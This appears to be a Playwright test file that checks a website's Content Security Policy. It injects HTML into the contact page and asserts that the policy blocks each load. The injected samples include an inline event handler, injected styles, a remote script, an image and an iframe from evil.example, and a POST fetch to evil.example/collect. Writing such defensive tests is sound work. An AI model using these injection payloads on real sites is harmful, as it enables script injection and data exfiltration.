import { expect, REDUCED_MOTION, test } from '#tests/setup/e2e/fixtures.ts'
import { mockOtherHosts } from './mock-other-hosts.ts'

test.use(REDUCED_MOTION)
test.beforeEach(({ context }) => mockOtherHosts(context))

test.describe('HTML that is injected into a page', () => {
  test.use({ expectedViolations: /./, expectedProblems: /Content Security Policy|evil\.example/ })

  test('runs no script, applies no styles and requests no other host', async ({ page, ready }) => {
    await page.goto('/contact')
    await ready()
    const blocked = page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          const directives: string[] = []
          addEventListener('securitypolicyviolation', ({ disposition, effectiveDirective }) => {
            if (disposition === 'enforce') directives.push(effectiveDirective)
            if (directives.length === 8) resolve(directives.sort())
          })
        }),
    )
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<p id="injected" style="color: rgb(1, 2, 3)" onclick="Object.assign(window, { injected: 'handler' })">Injected</p>
         <style>#injected { color: rgb(3, 2, 1) }</style>
         <img src="https://evil.example/pixel" alt="">
         <iframe src="https://evil.example/frame" title="Injected"></iframe>`,
      )
      document.getElementById('injected')?.click()
      for (const attributes of [{ text: "injected = 'text'" }, { src: 'https://evil.example/script.js' }])
        document.head.append(Object.assign(document.createElement('script'), attributes))
      fetch('https://evil.example/collect', { method: 'POST' }).catch(() => {})
    })
    expect(await blocked).toEqual([
      'connect-src',
      'frame-src',
      'img-src',
      'script-src-attr',
      'script-src-elem',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ])
    expect(await page.evaluate(() => Reflect.get(window, 'injected'))).not.toBe('handler')
  })
})
